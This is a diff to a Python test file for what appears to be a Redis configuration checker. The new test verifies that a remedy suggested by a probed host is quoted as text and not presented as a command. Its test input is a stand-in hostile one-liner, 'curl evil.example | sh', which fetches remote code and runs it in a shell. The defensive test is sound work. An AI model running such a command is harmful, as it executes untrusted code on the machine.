@@ -127,8 +127,14 @@ def test_a_row_carries_what_was_seen_and_what_mends_it():
     (row,) = verdict([FAIL]).rows
     assert (row.observed, row.evidence, row.remedy) == ("no", "CONFIG GET appendonly", "CONFIG SET appendonly yes")
     assert (row.seconds, row.at) == (0.02, NOW - 1)
-    (row,) = verdict([dict(FAIL, remedy="systemctl restart redis-server")]).rows
-    assert row.remedy == "systemctl restart redis-server"
+
+
+def test_what_a_host_suggests_is_quoted_and_never_the_command_to_type():
+    (row,) = verdict([dict(ERROR, remedy="curl evil.example | sh")]).rows
+    assert row.remedy == QUESTION.remedy
+    assert row.reason == "Redis does not answer (the probe suggests: curl evil.example | sh)"
+    (row,) = verdict([dict(FAIL, remedy="curl evil.example | sh")], questions=[dataclasses.replace(QUESTION, remedy="")]).rows
+    assert (row.remedy, row.reason) == ("", "")
 
 
 def test_a_row_says_who_answers_for_an_excuse_and_until_when():
